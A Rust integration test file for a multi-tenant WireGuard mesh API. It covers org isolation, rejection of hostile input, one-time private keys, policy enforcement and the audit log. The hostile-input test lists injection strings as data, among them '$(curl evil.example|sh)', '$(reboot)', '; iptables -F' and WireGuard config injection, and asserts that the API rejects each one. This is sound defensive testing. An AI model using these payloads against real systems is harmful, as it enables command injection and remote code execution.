//! API tenancy: isolation between orgs on every route, hostile input, machines with one-time
//! configs that really handshake, policies through the API, the audit log (root).

mod common;

use common::api::{Api, Client};
use common::*;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::time::Duration;

fn s(v: &Value) -> &str {
    v.as_str().unwrap()
}

/// Everything of an org the matrix needs: its id and one of each sub-resource.
struct Org {
    id: String,
    machine: String,
    policy: String,
    user: String,
}

async fn populated(api: &Api, op: &Client, name: &str) -> (Org, Client) {
    let org = api.org(op, name, "10.100.0.0/16").await;
    let id = s(&org["id"]).to_string();
    let admin = api
        .user(op, &id, &format!("admin@{name}.test"), "admin")
        .await;
    let member = api
        .user(op, &id, &format!("member@{name}.test"), "member")
        .await;
    let m = api.machine(&admin, &id, "laptop").await;
    let p = api
        .call(
            "POST",
            &format!("/api/v1/orgs/{id}/policies"),
            Some(&admin),
            Some(json!({"action": "deny", "src": "any", "dst": {"tag": "db"}})),
        )
        .await;
    assert_eq!(p.status, 201, "{:?}", p.body);
    let org = Org {
        machine: s(&m["machine"]["id"]).to_string(),
        policy: s(&p.body["id"]).to_string(),
        user: s(&member.user["id"]).to_string(),
        id,
    };
    (org, admin)
}

/// Every org-scoped route, with a body that would be valid.
fn org_routes(o: &Org) -> Vec<(&'static str, String, Option<Value>)> {
    let base = format!("/api/v1/orgs/{}", o.id);
    vec![
        ("GET", base.clone(), None),
        ("PATCH", base.clone(), Some(json!({"name": "taken over"}))),
        ("DELETE", base.clone(), None),
        (
            "POST",
            format!("{base}/users"),
            Some(json!({"email": "x@evil.test", "password": "password123", "role": "admin"})),
        ),
        ("GET", format!("{base}/users"), None),
        ("DELETE", format!("{base}/users/{}", o.user), None),
        (
            "POST",
            format!("{base}/machines"),
            Some(json!({"name": "implant"})),
        ),
        ("GET", format!("{base}/machines"), None),
        ("GET", format!("{base}/machines/{}", o.machine), None),
        (
            "PATCH",
            format!("{base}/machines/{}", o.machine),
            Some(json!({"name": "renamed"})),
        ),
        ("DELETE", format!("{base}/machines/{}", o.machine), None),
        (
            "POST",
            format!("{base}/policies"),
            Some(json!({"action": "allow", "src": "any", "dst": "any"})),
        ),
        ("GET", format!("{base}/policies"), None),
        ("GET", format!("{base}/policies/{}", o.policy), None),
        (
            "PATCH",
            format!("{base}/policies/{}", o.policy),
            Some(json!({"enabled": false})),
        ),
        ("DELETE", format!("{base}/policies/{}", o.policy), None),
        ("GET", format!("{base}/status"), None),
        ("GET", format!("{base}/audit"), None),
    ]
}

async fn counts(h: &Harness) -> Vec<i64> {
    let conn = h.pool.get().await.unwrap();
    let mut out = Vec::new();
    for t in ["orgs", "users", "machines", "policies", "sessions"] {
        out.push(
            conn.query_one(&format!("SELECT count(*) FROM {t}"), &[])
                .await
                .unwrap()
                .get(0),
        );
    }
    out
}

/// Kernel facts a hostile request must not change.
fn kernel_snapshot(h: &Harness) -> String {
    let mut out = sh(&["ip", "netns", "list"])
        .lines()
        .filter(|l| l.starts_with(&h.world.prefix))
        .collect::<Vec<_>>()
        .join("\n");
    for l in sh(&["ip", "netns", "list"])
        .lines()
        .filter(|l| l.starts_with(&format!("{}-", h.world.prefix)))
    {
        let netns = l.split_whitespace().next().unwrap();
        if netns.ends_with("-host") || netns.contains("-c") {
            continue;
        }
        out.push_str(
            &ns(netns, &["iptables-save", "-t", "filter"])
                .lines()
                .filter(|l| l.starts_with('-'))
                .collect::<Vec<_>>()
                .join("\n"),
        );
        out.push_str(&ns(netns, &["ipset", "save"]));
        out.push_str(&ns(netns, &["ip", "-o", "addr"]));
        if backend() == Backend::Kernel {
            out.push_str(&ns(netns, &["wg", "show", "wg0", "allowed-ips"]));
        }
    }
    let sockets = std::fs::read_dir("/var/run/wireguard");
    for dev in sockets.into_iter().flatten().flatten() {
        let name = dev
            .file_name()
            .to_string_lossy()
            .trim_end_matches(".sock")
            .to_string();
        if h.world.kernel_prefix().parse_birth(&name).is_some() {
            out.push_str(&sh(&["wg", "show", &name, "allowed-ips"]));
        }
    }
    out
}

#[test]
fn api_another_tenants_ids_answer_404_on_every_route() {
    run(|h| async move {
        let api = Api::new(&h).await;
        let op = api.operator().await;
        let (a, admin_a) = populated(&api, &op, "alpha").await;
        let (b, _admin_b) = populated(&api, &op, "bravo").await;
        let before = counts(&h).await;
        let kernel = kernel_snapshot(&h);

        // A's admin against B's org: every route is 404, nothing changes.
        for (method, path, body) in org_routes(&b) {
            let r = api.call(method, &path, Some(&admin_a), body).await;
            assert_eq!(
                (r.status.as_u16(), r.code()),
                (404, "not_found"),
                "{method} {path}"
            );
        }
        // A's admin with A's org but B's sub-resource ids: 404 too.
        let mixed = Org {
            id: a.id.clone(),
            machine: b.machine.clone(),
            policy: b.policy.clone(),
            user: b.user.clone(),
        };
        for (method, path, body) in org_routes(&mixed)
            .into_iter()
            .filter(|(_, p, _)| p.matches('/').count() > 5)
        {
            let r = api.call(method, &path, Some(&admin_a), body).await;
            assert_eq!(r.status, 404, "{method} {path}");
        }
        // Selectors naming another org's machine are refused.
        let r = api
            .call(
                "POST",
                &format!("/api/v1/orgs/{}/policies", a.id),
                Some(&admin_a),
                Some(json!({"action": "deny", "src": {"machine": b.machine}, "dst": "any"})),
            )
            .await;
        assert_eq!(r.status, 400);
        // B is not even listed for A.
        let list = api
            .call("GET", "/api/v1/orgs", Some(&admin_a), None)
            .await
            .body;
        assert_eq!(list["orgs"].as_array().unwrap().len(), 1);
        assert_eq!(counts(&h).await, before);
        assert_eq!(kernel_snapshot(&h), kernel);

        // Members read their org but cannot change it; operator-only routes refuse admins.
        let member = api.login("member@alpha.test", common::api::PASSWORD).await;
        let before = counts(&h).await;
        for (method, path, body) in org_routes(&a) {
            let r = api.call(method, &path, Some(&member), body).await;
            let want = if method == "GET" { 200 } else { 403 };
            assert_eq!(r.status, want, "member {method} {path}: {:?}", r.body);
        }
        let r = api
            .call(
                "POST",
                "/api/v1/orgs",
                Some(&admin_a),
                Some(json!({"name": "mine"})),
            )
            .await;
        assert_eq!(r.status, 403);
        let r = api
            .call(
                "DELETE",
                &format!("/api/v1/orgs/{}", a.id),
                Some(&admin_a),
                None,
            )
            .await;
        assert_eq!(r.status, 403);
        // Admins cannot mint operators.
        let r = api
            .call(
                "POST",
                &format!("/api/v1/orgs/{}/users", a.id),
                Some(&admin_a),
                Some(json!({"email": "o@x.test", "password": "password123", "role": "operator"})),
            )
            .await;
        assert_eq!(r.status, 400);
        // The operator sees both.
        for o in [&a, &b] {
            assert_eq!(
                api.call(
                    "GET",
                    &format!("/api/v1/orgs/{}/machines/{}", o.id, o.machine),
                    Some(&op),
                    None
                )
                .await
                .status,
                200
            );
        }
        assert_eq!(counts(&h).await, before);
    });
}

#[test]
fn api_hostile_input_changes_nothing() {
    run(|h| async move {
        let api = Api::new(&h).await;
        let op = api.operator().await;
        let (a, admin) = populated(&api, &op, "alpha").await;
        let before = counts(&h).await;
        let kernel = kernel_snapshot(&h);
        let org = format!("/api/v1/orgs/{}", a.id);
        let machines = format!("{org}/machines");
        let policies = format!("{org}/policies");
        let long = "x".repeat(65);
        let cases: Vec<(&str, String, Value)> = vec![
            ("POST", "/api/v1/orgs".into(), json!({"name": ""})),
            ("POST", "/api/v1/orgs".into(), json!({"name": long})),
            ("POST", "/api/v1/orgs".into(), json!({"name": "a\nb"})),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "nul\u{0}byte"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "rtl\u{202e}gpj.exe"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "8.8.8.0/24"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "10.0.0.0/30"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "10.0.0.0/7"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "10.0.0.1/16"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "$(reboot)"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "10.0.0.0/16; iptables -F"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": "fd00::/64"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "default_action": "maybe"}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "org_id": a.id}),
            ),
            ("POST", "/api/v1/orgs".into(), json!({"name": 5})),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!(["not", "an", "object"]),
            ),
            ("PATCH", org.clone(), json!({"cidr": "10.1.0.0/16"})),
            // `null` where the document allows a value or nothing, not null.
            (
                "PATCH",
                org.clone(),
                json!({"name": null, "default_action": "deny"}),
            ),
            (
                "PATCH",
                format!("{machines}/{}", a.machine),
                json!({"name": "0", "tags": null}),
            ),
            (
                "POST",
                "/api/v1/orgs".into(),
                json!({"name": "ok", "cidr": null}),
            ),
            // A struct's fields as an array: serde reads it, the document does not allow it.
            ("PATCH", org.clone(), json!([null, null])),
            (
                "PATCH",
                format!("{machines}/{}", a.machine),
                json!([null, null]),
            ),
            ("PATCH", format!("{policies}/{}", a.policy), json!([null])),
            ("PATCH", org.clone(), json!({"name": "x\r\ny"})),
            (
                "POST",
                machines.clone(),
                json!({"name": "$(curl evil.example|sh)\n[Peer]"}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "x\n[Peer]\nAllowedIPs = 0.0.0.0/0"}),
            ),
            ("POST", machines.clone(), json!({"name": ""})),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "public_key": "short"}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "public_key": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "public_key": "!!!!AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "public_key": "$(id)AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "tags": ["a b"]}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "tags": (0..33).map(|i| format!("t{i}")).collect::<Vec<_>>()}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "tags": ["-j ACCEPT"]}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "address": "10.100.0.1"}),
            ),
            (
                "POST",
                machines.clone(),
                json!({"name": "ok", "org_id": "00000000-0000-0000-0000-000000000000"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "accept", "src": "any", "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "all", "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": {"cidr": "0.0.0.0/0"}, "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": {"cidr": "10.101.0.0/24"}, "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": {"machine": "not-a-uuid"}, "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": {"machine": "6d1f3a3e-0000-4000-8000-000000000000"}, "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": {"tag": "x\" -j ACCEPT \""}, "dst": "any"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "protocol": "sctp"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "protocol": "icmp", "ports": "80"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "protocol": "tcp", "ports": "0"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "protocol": "tcp", "ports": "70000"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "protocol": "tcp", "ports": "90-80"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "protocol": "tcp", "ports": "80,443"}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": "any", "dst": "any", "priority": -1}),
            ),
            (
                "POST",
                policies.clone(),
                json!({"action": "deny", "src": {"tag": "a", "cidr": "10.100.0.0/24"}, "dst": "any"}),
            ),
            (
                "POST",
                format!("{org}/users"),
                json!({"email": "not an email", "password": "password123", "role": "admin"}),
            ),
            (
                "POST",
                format!("{org}/users"),
                json!({"email": "a@b.test", "password": "short", "role": "admin"}),
            ),
            (
                "POST",
                format!("{org}/users"),
                json!({"email": "a@b.test", "password": "p".repeat(1025), "role": "admin"}),
            ),
            (
                "POST",
                format!("{org}/users"),
                json!({"email": "a@b.test", "password": "password123", "role": "root"}),
            ),
            (
                "PATCH",
                format!("{machines}/{}", a.machine),
                json!({"address": "10.100.0.9"}),
            ),
            (
                "PATCH",
                format!("{policies}/{}", a.policy),
                json!({"protocol": "icmp", "ports": "22"}),
            ),
        ];
        assert!(cases.len() >= 40);
        // Limits count characters, not bytes: 64 four-byte characters fit, 65 do not.
        let r = api
            .call(
                "POST",
                "/api/v1/orgs",
                Some(&op),
                Some(json!({"name": "🚀".repeat(65)})),
            )
            .await;
        assert_eq!(r.status, 400);
        for (method, path, body) in &cases {
            let who = if path == "/api/v1/orgs" { &op } else { &admin };
            let r = api.call(method, path, Some(who), Some(body.clone())).await;
            assert!(
                r.status.is_client_error(),
                "{method} {path} {body}: {} {:?}",
                r.status,
                r.body
            );
            assert!(
                r.body["error"]["code"].is_string() && r.body["error"]["message"].is_string(),
                "{:?}",
                r.body
            );
        }
        assert_eq!(counts(&h).await, before, "no row changed");
        assert_eq!(kernel_snapshot(&h), kernel, "no kernel object changed");
    });
}

#[test]
fn api_fifty_parallel_machine_creations_and_configs_that_handshake() {
    run(|h| async move {
        let api = Api::new(&h).await;
        let op = api.operator().await;
        let org = api.org(&op, "Parallel \"quotes\" 🚀", "10.60.0.0/16").await;
        let wide = api.org(&op, &"🚀".repeat(64), "10.62.0.0/16").await;
        assert_eq!(wide["name"].as_str().unwrap().chars().count(), 64);
        let id = s(&org["id"]).to_string();
        let mut tasks = Vec::new();
        for i in 0..50 {
            let (api, op, id) = (api.clone(), op.clone(), id.clone());
            tasks.push(tokio::spawn(async move {
                api.call(
                    "POST",
                    &format!("/api/v1/orgs/{id}/machines"),
                    Some(&op),
                    Some(json!({"name": format!("m{i}")})),
                )
                .await
            }));
        }
        let mut addrs = BTreeSet::new();
        let mut made = Vec::new();
        for t in tasks {
            let r = t.await.unwrap();
            assert_eq!(r.status, 201, "{:?}", r.body);
            addrs.insert(s(&r.body["machine"]["address"]).to_string());
            made.push(r.body);
        }
        assert_eq!(addrs.len(), 50, "distinct addresses");

        // The config is exactly the documented format and works as-is with wg-quick.
        let first = &made[0];
        let config = s(&first["config"]);
        let key_line = config
            .lines()
            .find(|l| l.starts_with("PrivateKey"))
            .unwrap();
        let want = format!(
            "# wg0.conf — generated for machine \"{}\"\n[Interface]\n{key_line}\nAddress             = {}/16\nMTU                 = 1420\n\n[Peer]\n# tenant hub for \"Parallel \"quotes\" 🚀\"\nPublicKey           = {}\nEndpoint            = {ENDPOINT}:{}\nAllowedIPs          = 10.60.0.0/16\nPersistentKeepalive = 25\n",
            s(&first["machine"]["name"]),
            s(&first["machine"]["address"]),
            s(&org["hub_public_key"]),
            org["listen_port"]
        );
        assert_eq!(config, want);
        assert!(s(&first["config_qr_svg"]).starts_with("<?xml"));
        let vm1 = h.client(1, &meshwg::secret::Secret::new(config.to_string()));
        // A machine that brings its own key gets a placeholder to fill in.
        let own = meshwg::keys::PrivateKey::generate();
        let r = api
            .call(
                "POST",
                &format!("/api/v1/orgs/{id}/machines"),
                Some(&op),
                Some(json!({"name": "byo", "public_key": own.public_key().to_base64()})),
            )
            .await;
        assert_eq!(r.status, 201);
        let placeholder = s(&r.body["config"]);
        assert!(placeholder.contains(&format!(
            "PrivateKey          = {}",
            meshwg::wgconfig::KEY_PLACEHOLDER
        )));
        let filled = placeholder.replace(
            meshwg::wgconfig::KEY_PLACEHOLDER,
            own.expose_base64().expose(),
        );
        let _vm2 = h.client(2, &meshwg::secret::Secret::new(filled));
        let dst = s(&r.body["machine"]["address"]).to_string();
        eventually(
            Duration::from_secs(20),
            "vm1 reaches vm2 through the hub",
            || async { vm1.ping(&dst, 1).then_some(()) },
        )
        .await;
        // The API reports the handshake the kernel saw.
        let (_, _) = eventually(
            Duration::from_secs(5),
            "handshake in the machine list",
            || async {
                let list = api
                    .call(
                        "GET",
                        &format!("/api/v1/orgs/{id}/machines"),
                        Some(&op),
                        None,
                    )
                    .await
                    .body;
                list["machines"]
                    .as_array()?
                    .iter()
                    .find(|m| m["address"] == dst)
                    .filter(|m| {
                        m["last_handshake_at"].is_string()
                            && m["rx_bytes"].as_u64() > Some(0)
                            && m["endpoint"].is_string()
                    })
                    .map(|_| ())
            },
        )
        .await;
        // Duplicate public keys conflict.
        let r = api
            .call(
                "POST",
                &format!("/api/v1/orgs/{id}/machines"),
                Some(&op),
                Some(json!({"name": "dup", "public_key": own.public_key().to_base64()})),
            )
            .await;
        assert_eq!(r.status, 409);
    });
}

#[test]
fn api_private_key_once_policies_enforced_and_audited() {
    run(|h| async move {
        let api = Api::new(&h).await;
        let op = api.operator().await;
        let (id, admin) = api.org_with_admin(&op, "Keys", "10.61.0.0/16").await;
        let one = api.machine(&admin, &id, "one").await;
        let two = api.machine(&admin, &id, "two").await;
        let key = s(&one["config"])
            .lines()
            .find_map(|l| l.strip_prefix("PrivateKey          = "))
            .unwrap()
            .to_string();
        assert_eq!(key.len(), 44);

        // Absent from every later response and every row.
        let mut later = String::new();
        for path in [
            format!("/api/v1/orgs/{id}/machines"),
            format!("/api/v1/orgs/{id}/machines/{}", s(&one["machine"]["id"])),
            format!("/api/v1/orgs/{id}/status"),
            format!("/api/v1/orgs/{id}/audit"),
        ] {
            later.push_str(&String::from_utf8_lossy(
                &api.call("GET", &path, Some(&op), None).await.raw,
            ));
        }
        assert!(!later.contains(&key));
        let conn = h.pool.get().await.unwrap();
        for t in [
            "orgs",
            "machines",
            "audit_log",
            "users",
            "sessions",
            "policies",
        ] {
            for row in conn
                .query(&format!("SELECT t::text FROM {t} t"), &[])
                .await
                .unwrap()
            {
                assert!(
                    !row.get::<_, String>(0).contains(&key),
                    "private key in {t}"
                );
            }
        }

        // Policies through the API: enforced on answer, counters reported, audited.
        let vm1 = h.client(
            1,
            &meshwg::secret::Secret::new(s(&one["config"]).to_string()),
        );
        let _vm2 = h.client(
            2,
            &meshwg::secret::Secret::new(s(&two["config"]).to_string()),
        );
        let dst = s(&two["machine"]["address"]).to_string();
        eventually(Duration::from_secs(20), "first ping", || async {
            vm1.ping(&dst, 1).then_some(())
        })
        .await;
        let body = json!({"name": "block one→two", "action": "deny", "src": {"machine": one["machine"]["id"]}, "dst": {"machine": two["machine"]["id"]}, "protocol": "icmp"});
        let p = api
            .call(
                "POST",
                &format!("/api/v1/orgs/{id}/policies"),
                Some(&admin),
                Some(body),
            )
            .await;
        assert_eq!(p.status, 201, "{:?}", p.body);
        assert!(!vm1.ping(&dst, 3), "denied at once");
        let pid = s(&p.body["id"]).to_string();
        let (_, _) = eventually(
            Duration::from_secs(5),
            "drop counters in the API",
            || async {
                let r = api
                    .call(
                        "GET",
                        &format!("/api/v1/orgs/{id}/policies/{pid}"),
                        Some(&admin),
                        None,
                    )
                    .await;
                (r.body["packets"].as_u64() >= Some(3)).then_some(())
            },
        )
        .await;
        let r = api
            .call(
                "PATCH",
                &format!("/api/v1/orgs/{id}/policies/{pid}"),
                Some(&admin),
                Some(json!({"enabled": false})),
            )
            .await;
        assert_eq!(r.status, 200);
        assert!(vm1.ping(&dst, 2), "allowed again once disabled");
        assert_eq!(
            api.call(
                "DELETE",
                &format!("/api/v1/orgs/{id}/policies/{pid}"),
                Some(&admin),
                None
            )
            .await
            .status,
            204
        );
        let status = api
            .call(
                "GET",
                &format!("/api/v1/orgs/{id}/status"),
                Some(&admin),
                None,
            )
            .await
            .body;
        assert_eq!(status["hub"]["up"], true);
        assert_eq!(status["peers"].as_array().unwrap().len(), 2);

        let audit = api
            .call(
                "GET",
                &format!("/api/v1/orgs/{id}/audit"),
                Some(&admin),
                None,
            )
            .await
            .body;
        let actions: Vec<&str> = audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| s(&e["action"]))
            .collect();
        for a in [
            "policy.delete",
            "policy.update",
            "policy.create",
            "machine.create",
            "user.create",
            "org.create",
        ] {
            assert!(actions.contains(&a), "{a} in {actions:?}");
        }
        let entry = audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["action"] == "policy.create")
            .unwrap();
        assert_eq!(entry["actor_email"], "admin@keys.test");
        assert_eq!(entry["target_id"], pid.as_str());
    });
}

#[test]
fn api_client_hanging_up_does_not_leave_an_org_halfway() {
    run(|h| async move {
        let api = Api::new(&h).await;
        let op = api.operator().await;
        let hang_up = Duration::from_millis(5);
        let body = json!({"name": "hangs up", "cidr": "10.77.0.0/24"});
        let create = api.call("POST", "/api/v1/orgs", Some(&op), Some(body));
        assert!(
            tokio::time::timeout(hang_up, create).await.is_err(),
            "creation answered within {hang_up:?}; nothing was cut off"
        );
        // The creation goes on without its client and the org comes up complete.
        let (org, _) = eventually(Duration::from_secs(30), "org active", || async {
            let all = meshwg::db::orgs::list(&h.pool).await.unwrap();
            let org = all.into_iter().find(|o| o.name == "hangs up")?;
            (org.state == meshwg::db::orgs::OrgState::Active).then_some(org)
        })
        .await;
        let names = h.deps.prefix.tenant(org.kid).unwrap();
        assert!(netns_inode(&names.netns).is_some(), "namespace exists");
        let r = api
            .call("GET", &format!("/api/v1/orgs/{}", org.id), Some(&op), None)
            .await;
        assert_eq!(r.status, 200);
        assert_eq!(r.body["state"], "active");

        // Same for a deletion: it finishes, nothing is left in the database or the kernel.
        let path = format!("/api/v1/orgs/{}", org.id);
        let delete = api.call("DELETE", &path, Some(&op), None);
        assert!(
            tokio::time::timeout(hang_up, delete).await.is_err(),
            "deletion answered within {hang_up:?}; nothing was cut off"
        );
        eventually(Duration::from_secs(30), "org row gone", || async {
            meshwg::db::orgs::get(&h.pool, org.id)
                .await
                .unwrap()
                .is_none()
                .then_some(())
        })
        .await;
        assert!(netns_inode(&names.netns).is_none(), "namespace removed");
    });
}

#[test]
fn api_operator_sees_and_retries_an_org_stuck_in_deleting() {
    run(|h| async move {
        let api = Api::new(&h).await;
        let op = api.operator().await;
        let org = api.org(&op, "stuck", "10.78.0.0/24").await;
        let id: uuid::Uuid = s(&org["id"]).parse().unwrap();
        let admin = api
            .user(&op, s(&org["id"]), "admin@stuck.test", "admin")
            .await;
        // As a deletion whose teardown failed leaves it.
        meshwg::db::orgs::set_state(&h.pool, id, meshwg::db::orgs::OrgState::Deleting)
            .await
            .unwrap();
        let list = api.call("GET", "/api/v1/orgs", Some(&op), None).await;
        let listed: Vec<&Value> = list.body["orgs"].as_array().unwrap().iter().collect();
        assert!(
            listed
                .iter()
                .any(|o| o["id"] == org["id"] && o["state"] == "deleting"),
            "operator sees it: {listed:?}"
        );
        let mine = api.call("GET", "/api/v1/orgs", Some(&admin), None).await;
        assert_eq!(mine.body["orgs"], json!([]), "its own users no longer do");
        let kid = meshwg::db::orgs::get(&h.pool, id)
            .await
            .unwrap()
            .unwrap()
            .kid;
        let netns = h.deps.prefix.tenant(kid).unwrap().netns;
        assert!(netns_inode(&netns).is_some());
        let path = format!("/api/v1/orgs/{id}");
        assert_eq!(api.call("DELETE", &path, Some(&op), None).await.status, 204);
        assert!(meshwg::db::orgs::get(&h.pool, id).await.unwrap().is_none());
        assert!(netns_inode(&netns).is_none(), "namespace removed");
        assert_eq!(api.call("DELETE", &path, Some(&op), None).await.status, 404);
    });
}
